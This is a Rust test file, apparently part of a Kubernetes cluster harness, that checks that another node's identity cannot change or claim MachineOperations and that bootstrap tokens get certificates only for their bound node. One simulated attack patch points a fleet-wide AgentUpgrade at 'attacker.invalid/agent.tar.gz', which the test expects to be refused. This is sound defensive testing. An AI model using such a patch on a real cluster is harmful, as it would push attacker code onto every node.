//! The `trust` cluster group: the cluster's trust boundaries, shown against the real API
//! server with identities the checks make for the purpose (issue #13, items 1 and 2).
//!
//! 1. Another node's daemon identity (a client certificate for `system:node:<other>` in
//!    `system:nodes` and the daemon group, signed by the cluster's signer) cannot create an
//!    operation, change an operation's spec, write the status of one aimed at another machine
//!    or claimed by another node, or delete it; the same identity can claim the operations
//!    aimed at its own machine (so the refusals are the policy's, not a broken identity).
//! 2. The CRD refuses an administrator's spec edit and an empty selector.
//! 3. A bootstrap token gets a daemon certificate only for the node whose machine entry names
//!    it, and none for a node that already holds one (the approver's positive case is shown
//!    with the token the entry names).
//!
//! Every object the checks make carries a `trust-<stamp>` name and goes at the end; the VM's
//! node is only read (its machine entry and certificate stay as `up` made them).

use std::path::PathBuf;
use std::time::{Duration, Instant};

use base64::Engine as _;
use flex_host::secret::Secret;
use serde_json::{Value, json};

use crate::check::{Group, HostMode, Needs, check, secs};
use crate::cluster::kube::{Kubectl, Seen, poll};
use crate::cluster::render;
use crate::cluster::token::BootstrapToken;
use crate::kit::cluster::{Env, in_cluster};
use crate::report::Checked;

/// The `trust` group.
pub const GROUP: Group = Group {
    name: "trust",
    description: "the API server refuses another node's identity on this node's MachineOperations and certificate, and the CRD keeps specs immutable and selectors non-empty",
    needs: Needs::Cluster,
    checks: &[
        check!(
            "another node's daemon identity cannot create, edit, finish or delete operations aimed elsewhere, and can claim its own",
            operations_confined,
            via in_cluster
        ),
        check!(
            "an operation's spec is immutable and an empty selector is refused, for administrators too",
            spec_rules,
            via in_cluster
        ),
        check!(
            "a bootstrap token gets a daemon certificate only for the node its machine entry names, and only once",
            token_bound,
            via in_cluster
        ),
    ],
    in_host_mode: HostMode::Same,
};

/// The label every object of the group carries.
const TRUST_LABEL: &str = "aks-flex-harness/trust";
/// The label the group's selector operation matches: a selector matches only labels a node
/// cannot set on itself (`flex_api::operations::decide::node_cannot_set`).
const SELECTOR_LABEL: &str = "node-restriction.kubernetes.io/aks-flex-harness-trust";
/// How long a request that must not be approved is watched (the approver looks at once, then
/// every 15 s).
const NOT_APPROVED_FOR: Duration = Duration::from_secs(25);
/// How long an approval and signature may take.
const ISSUE_TIMEOUT: Duration = Duration::from_secs(90);

/// The API server and CA from the admin kubeconfig, as a kubeconfig for `user` (JSON).
async fn kubeconfig_for(k: &Kubectl<'_>, user: Value) -> anyhow::Result<String> {
    let admin: Value = serde_json::from_str(&k.flattened_config().await?)?;
    let cluster = admin["clusters"][0]["cluster"].clone();
    if cluster["server"].as_str().unwrap_or_default().is_empty() {
        anyhow::bail!("the admin kubeconfig names no server");
    }
    Ok(serde_json::to_string_pretty(&json!({
        "apiVersion": "v1",
        "kind": "Config",
        "clusters": [{"name": "c", "cluster": cluster}],
        "users": [{"name": "u", "user": user}],
        "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
        "current-context": "c",
    }))?)
}

/// A PKCS#10 request (PEM) for `system:node:<node>` in `system:nodes` and the daemon group, as
/// the agent asks; and its key (PEM).
fn daemon_request(node: &str) -> anyhow::Result<(String, Secret)> {
    use rcgen::{CertificateParams, DistinguishedName, DnType, KeyPair};
    let key = KeyPair::generate()?;
    let mut dn = DistinguishedName::new();
    dn.push(DnType::CommonName, format!("system:node:{node}"));
    dn.push(DnType::OrganizationName, "system:nodes");
    dn.push(
        DnType::CustomDnType(vec![2, 5, 4, 10]),
        flex_api::machina::DAEMON_GROUP,
    );
    let mut params = CertificateParams::default();
    params.distinguished_name = dn;
    let pem = params.serialize_request(&key)?.pem()?;
    Ok((pem, Secret::new(key.serialize_pem())))
}

/// The CertificateSigningRequest `name` carrying `request`, for the daemon signer, 10 minutes.
fn csr_doc(name: &str, request: &str) -> String {
    let b64 = base64::engine::general_purpose::STANDARD;
    json!({
        "apiVersion": "certificates.k8s.io/v1",
        "kind": "CertificateSigningRequest",
        "metadata": {"name": name, "labels": {TRUST_LABEL: "true"}},
        "spec": {
            "request": b64.encode(request.as_bytes()),
            "signerName": "kubernetes.io/kube-apiserver-client",
            "usages": ["digital signature", "client auth"],
            "expirationSeconds": 600,
        },
    })
    .to_string()
}

/// The approval state of CSR `name`: `Approved`/`Denied` and whether a certificate is issued.
async fn csr_state(k: &Kubectl<'_>, name: &str) -> anyhow::Result<(Option<String>, String)> {
    let v: Value = serde_json::from_str(&k.run(["get", "csr", name, "-o", "json"]).await?)?;
    let decided = v["status"]["conditions"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|c| c["type"].as_str())
        .find(|t| matches!(*t, "Approved" | "Denied"))
        .map(str::to_string);
    let cert = v["status"]["certificate"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    Ok((decided, cert))
}

/// Waits until CSR `name` carries a certificate; returns it (PEM).
async fn wait_issued(e: &Env<'_>, k: Kubectl<'_>, name: &str) -> anyhow::Result<String> {
    let b64 = base64::engine::general_purpose::STANDARD;
    let cert = poll(
        &format!("CertificateSigningRequest {name} to be approved and signed"),
        ISSUE_TIMEOUT,
        e.pace,
        || async move {
            Ok(match csr_state(&k, name).await? {
                (Some(d), _) if d == "Denied" => Seen::Fail("denied".into()),
                (_, c) if !c.is_empty() => Seen::Done(c),
                (d, _) => Seen::Not(d.unwrap_or_else(|| "pending".into())),
            })
        },
    )
    .await?;
    Ok(String::from_utf8(b64.decode(cert.as_bytes())?)?)
}

/// Files the group writes (kubeconfigs holding keys or tokens), removed at the end.
struct Scratch {
    dir: PathBuf,
}

impl Scratch {
    fn new(e: &Env<'_>) -> anyhow::Result<Self> {
        let dir = crate::cluster::kube::cluster_dir(e.work).join(format!("trust-{}", e.stamp));
        std::fs::create_dir_all(&dir)?;
        Ok(Self { dir })
    }

    fn write(&self, name: &str, text: &str) -> anyhow::Result<PathBuf> {
        let p = self.dir.join(name);
        crate::cluster::existing::write_private(&p, text.as_bytes())?;
        Ok(p)
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// A daemon identity for `node`, signed by the cluster (an administrator creates and approves
/// the request): the kubeconfig that uses it.
async fn node_identity(e: &Env<'_>, s: &Scratch, node: &str) -> anyhow::Result<PathBuf> {
    let (request, key) = daemon_request(node)?;
    let name = format!("trust-{}-{node}", e.stamp);
    e.kubectl.apply(&csr_doc(&name, &request)).await?;
    e.kubectl.run(["certificate", "approve", &name]).await?;
    let cert = wait_issued(e, e.kubectl, &name).await?;
    let b64 = base64::engine::general_purpose::STANDARD;
    let kc = kubeconfig_for(
        &e.kubectl,
        json!({
            "client-certificate-data": b64.encode(cert.as_bytes()),
            "client-key-data": b64.encode(key.expose().as_bytes()),
        }),
    )
    .await?;
    s.write(&format!("{node}.kubeconfig"), &kc)
}

/// The operation `name` aimed at `target` (`machineRef`), or by the selector `label=stamp`
/// when `target` is empty.
fn operation(e: &Env<'_>, name: &str, target: &str) -> String {
    let mut doc: Value = serde_json::from_str(&render::machine_operation(
        name,
        flex_api::machina::OperationKind::NodeReboot.as_str(),
        target,
        &[],
    ))
    .unwrap_or_default();
    doc["metadata"]["labels"][TRUST_LABEL] = json!("true");
    if target.is_empty() {
        doc["spec"] = json!({
            "operationKind": flex_api::machina::OperationKind::NodeReboot.as_str(),
            "machineSelector": {"matchLabels": {SELECTOR_LABEL: e.stamp.to_string()}},
        });
    }
    doc.to_string()
}

/// Fails unless `f` fails with an error that contains `want` (the refusal expected), naming
/// `what`.
async fn refused<F>(what: &str, f: F, want: &str) -> anyhow::Result<()>
where
    F: std::future::Future<Output = anyhow::Result<String>>,
{
    match f.await {
        Ok(out) => anyhow::bail!("{what} was allowed ({})", out.trim()),
        Err(e) => {
            let text = format!("{e:#}");
            if text.contains(want) {
                Ok(())
            } else {
                anyhow::bail!("{what} was refused, but not by {want:?}: {text}")
            }
        }
    }
}

/// `kubectl patch machineoperation <name> --subresource=status --type=merge -p <body>` as
/// `k`'s identity.
async fn patch_status(k: Kubectl<'_>, name: &str, body: Value) -> anyhow::Result<String> {
    k.run([
        "patch",
        "machineoperation",
        name,
        "--subresource=status",
        "--type=merge",
        "-p",
        &body.to_string(),
    ])
    .await
}

/// Removes the group's objects.
async fn clean(e: &Env<'_>) {
    let sel = format!("{TRUST_LABEL}=true");
    for kind in ["machineoperations", "csr"] {
        let _ = e
            .kubectl
            .run([
                "delete",
                kind,
                "-l",
                &sel,
                "--ignore-not-found",
                "--wait=false",
            ])
            .await;
    }
    let _ = e
        .kubectl
        .run([
            "-n",
            render::NAMESPACE,
            "delete",
            "secret",
            "-l",
            &sel,
            "--ignore-not-found",
        ])
        .await;
}

async fn operations_confined(e: &Env<'_>) -> anyhow::Result<Checked> {
    let t = Instant::now();
    let r = confined(e).await;
    clean(e).await;
    r.map(|n| {
        Checked::passed_with(format!(
            "{n} refusals, 3 own writes, in {}",
            secs(t.elapsed())
        ))
    })
}

async fn confined(e: &Env<'_>) -> anyhow::Result<usize> {
    let s = Scratch::new(e)?;
    let st = e.stamp;
    let (me, other, victim) = (
        format!("trust-{st}-intruder"),
        format!("trust-{st}-other"),
        format!("trust-{st}-victim"),
    );
    let (aimed, own, by_label) = (
        format!("trust-{st}-aimed-elsewhere"),
        format!("trust-{st}-own"),
        format!("trust-{st}-by-label"),
    );
    let admin = e.kubectl;
    for (name, target) in [
        (&aimed, victim.as_str()),
        (&own, me.as_str()),
        (&by_label, ""),
    ] {
        admin.apply(&operation(e, name, target)).await?;
    }
    let me_kc = node_identity(e, &s, &me).await?;
    let other_kc = node_identity(e, &s, &other).await?;
    let k = e.kubectl.with_kubeconfig(&me_kc);
    let k2 = e.kubectl.with_kubeconfig(&other_kc);
    const POLICY: &str = "may not change MachineOperation";
    let mut n = 0;
    // The seed's attack: turn another node's operation into an AgentUpgrade for every node.
    let attack = json!({"spec": {
        "machineSelector": {},
        "operationKind": "AgentUpgrade",
        "parameters": {"downloadURL": "https://attacker.invalid/agent.tar.gz", "sha256": "0".repeat(64)},
    }})
    .to_string();
    let spec_patch = k.run([
        "patch",
        "machineoperation",
        &aimed,
        "--type=merge",
        "-p",
        &attack,
    ]);
    refused("the intruder's spec patch", spec_patch, "forbidden").await?;
    n += 1;
    let created = operation(e, &format!("trust-{st}-created"), &victim);
    let create = k.apply(&created);
    refused("the intruder's create", create, "forbidden").await?;
    n += 1;
    let reset = json!({"status": {"phase": "Pending", "claimedBy": me}});
    refused(
        "resetting another machine's operation to Pending",
        patch_status(k, &aimed, reset),
        POLICY,
    )
    .await?;
    n += 1;
    let finish = json!({"status": {"phase": "Complete"}});
    refused(
        "finishing another machine's operation",
        patch_status(k, &aimed, finish),
        POLICY,
    )
    .await?;
    n += 1;
    let delete = k.run(["delete", "machineoperation", &aimed]);
    refused("deleting another machine's operation", delete, POLICY).await?;
    n += 1;
    // Its own: claimed, then not handed to someone else's name.
    let claim = json!({"status": {"phase": "InProgress", "claimedBy": me}});
    patch_status(k, &own, claim.clone()).await?;
    refused(
        "naming another node as the claimer",
        patch_status(k, &own, json!({"status": {"claimedBy": victim}})),
        "status.claimedBy only to its own node",
    )
    .await?;
    n += 1;
    // A selector operation: the first claim stands, and another node cannot take it over.
    patch_status(k, &by_label, claim).await?;
    refused(
        "taking over another node's claim",
        patch_status(
            k2,
            &by_label,
            json!({"status": {"phase": "Pending", "claimedBy": other}}),
        ),
        POLICY,
    )
    .await?;
    n += 1;
    // And it finishes its own.
    patch_status(
        k,
        &own,
        json!({"status": {"phase": "Complete", "claimedBy": me}}),
    )
    .await?;
    Ok(n)
}

async fn spec_rules(e: &Env<'_>) -> anyhow::Result<Checked> {
    let t = Instant::now();
    let r = spec_rules_inner(e).await;
    clean(e).await;
    r.map(|()| Checked::passed_with(format!("both refused in {}", secs(t.elapsed()))))
}

async fn spec_rules_inner(e: &Env<'_>) -> anyhow::Result<()> {
    let st = e.stamp;
    let name = format!("trust-{st}-spec");
    let admin = e.kubectl;
    admin
        .apply(&operation(e, &name, &format!("trust-{st}-victim")))
        .await?;
    let edit = json!({"spec": {"operationKind": "AgentReset"}}).to_string();
    let spec_edit = admin.run([
        "patch",
        "machineoperation",
        &name,
        "--type=merge",
        "-p",
        &edit,
    ]);
    refused(
        "an administrator's spec edit",
        spec_edit,
        "spec is immutable",
    )
    .await?;
    let mut empty: Value = serde_json::from_str(&operation(e, &format!("trust-{st}-empty"), ""))?;
    empty["spec"]["machineSelector"] = json!({});
    refused(
        "an empty selector",
        admin.apply(&empty.to_string()),
        "an empty selector matches no machine",
    )
    .await?;
    Ok(())
}

async fn token_bound(e: &Env<'_>) -> anyhow::Result<Checked> {
    let t = Instant::now();
    let r = token_bound_inner(e).await;
    clean(e).await;
    let _ = crate::kit::cluster::remove_machine_entry(e, &format!("trust-{}-bound", e.stamp)).await;
    r.map(|m| Checked::passed_with(format!("{m}, in {}", secs(t.elapsed()))))
}

/// A bootstrap token Secret labelled for the group.
async fn make_token(e: &Env<'_>) -> anyhow::Result<BootstrapToken> {
    let token = BootstrapToken::generate()?;
    let doc = render::token_secret(&token);
    let mut v: Value = serde_json::from_str(doc.expose())?;
    v["metadata"]["labels"][TRUST_LABEL] = json!("true");
    e.kubectl
        .apply_secret(&Secret::new(v.to_string()), &[token.secret().expose()])
        .await?;
    Ok(token)
}

/// Submits a daemon CSR named `name` for `node` as `k`'s identity.
async fn submit(k: Kubectl<'_>, name: String, node: String) -> anyhow::Result<String> {
    let (req, _key) = daemon_request(&node)?;
    k.apply(&csr_doc(&name, &req)).await?;
    Ok(name)
}

/// Submits a kubelet client CSR named `name` for `node` as `k`'s identity, as kubelet's TLS
/// bootstrap makes it: signer `kube-apiserver-client-kubelet`, organization `system:nodes`
/// only, no lifetime asked for.
async fn submit_kubelet(k: Kubectl<'_>, name: String, node: String) -> anyhow::Result<String> {
    use rcgen::{CertificateParams, DistinguishedName, DnType, KeyPair};
    let key = KeyPair::generate()?;
    let mut dn = DistinguishedName::new();
    dn.push(DnType::CommonName, format!("system:node:{node}"));
    dn.push(DnType::OrganizationName, "system:nodes");
    let mut params = CertificateParams::default();
    params.distinguished_name = dn;
    let pem = params.serialize_request(&key)?.pem()?;
    let mut doc: Value = serde_json::from_str(&csr_doc(&name, &pem))?;
    doc["spec"]["signerName"] = json!("kubernetes.io/kube-apiserver-client-kubelet");
    if let Some(spec) = doc["spec"].as_object_mut() {
        spec.remove("expirationSeconds");
    }
    k.apply(&doc.to_string()).await?;
    Ok(name)
}

async fn token_bound_inner(e: &Env<'_>) -> anyhow::Result<String> {
    let s = Scratch::new(e)?;
    let st = e.stamp;
    let bound = format!("trust-{st}-bound");
    let (good, stray) = (make_token(e).await?, make_token(e).await?);
    let entry = render::machine_entry(&bound, &e.info.kubernetes_version, "trust", good.id())?;
    let patch = json!({"data": {format!("{bound}.json"): entry}}).to_string();
    crate::kit::cluster::patch_machine_store(e, "merge", &patch).await?;
    let mut kcs = Vec::new();
    for (t, file) in [(&good, "good.kubeconfig"), (&stray, "stray.kubeconfig")] {
        let kc = kubeconfig_for(&e.kubectl, json!({"token": t.token().expose()})).await?;
        kcs.push(s.write(file, &kc)?);
    }
    let (k_good, k_stray) = (
        e.kubectl.with_kubeconfig(&kcs[0]),
        e.kubectl.with_kubeconfig(&kcs[1]),
    );
    // The stray token asks for the bound node, and the good one for the VM's node (whose entry
    // names up's token): neither may be approved.
    let wrong_token = submit(k_stray, format!("trust-{st}-wrong-token"), bound.clone()).await?;
    let wrong_node = submit(
        k_good,
        format!("trust-{st}-wrong-node"),
        e.node().to_string(),
    )
    .await?;
    // The good token for its node is: the approver is at work.
    let first = submit(k_good, format!("trust-{st}-first"), bound.clone()).await?;
    let t = Instant::now();
    wait_issued(e, e.kubectl, &first).await?;
    let issued_in = t.elapsed();
    // Once it holds a certificate, the same token gets no second one.
    let second = submit(k_good, format!("trust-{st}-second"), bound.clone()).await?;
    // kubelet's certificate, under the same binding (#29 item 1): kube-controller-manager no
    // longer approves it for the flex group; the controller does, once, for the bound node.
    let kubelet_wrong_token = submit_kubelet(
        k_stray,
        format!("trust-{st}-kubelet-wrong-token"),
        bound.clone(),
    )
    .await?;
    let kubelet_wrong_node = submit_kubelet(
        k_good,
        format!("trust-{st}-kubelet-wrong-node"),
        e.node().to_string(),
    )
    .await?;
    let kubelet_first =
        submit_kubelet(k_good, format!("trust-{st}-kubelet-first"), bound.clone()).await?;
    let t = Instant::now();
    wait_issued(e, e.kubectl, &kubelet_first).await?;
    let kubelet_issued_in = t.elapsed();
    let kubelet_second =
        submit_kubelet(k_good, format!("trust-{st}-kubelet-second"), bound.clone()).await?;
    tokio::time::sleep(e.pace.timeout(NOT_APPROVED_FOR)).await;
    for name in [
        &wrong_token,
        &wrong_node,
        &second,
        &kubelet_wrong_token,
        &kubelet_wrong_node,
        &kubelet_second,
    ] {
        if let (Some(d), _) = csr_state(&e.kubectl, name).await? {
            anyhow::bail!("CertificateSigningRequest {name} was {d}; it must stay pending");
        }
    }
    Ok(format!(
        "the named token's daemon request signed in {}, its kubelet request in {}; the other token's, the requests for another node and the second requests (daemon, kubelet) still pending after {}",
        secs(issued_in),
        secs(kubelet_issued_in),
        secs(NOT_APPROVED_FOR)
    ))
}

#[cfg(test)]
mod tests {
    /// The group's selector operation would be refused by every agent were its label one a
    /// node may set on itself.
    #[test]
    fn the_selector_label_is_one_a_node_cannot_set() {
        assert!(flex_api::operations::decide::node_cannot_set(
            super::SELECTOR_LABEL
        ));
        assert!(!flex_api::operations::decide::node_cannot_set(
            super::TRUST_LABEL
        ));
    }
}
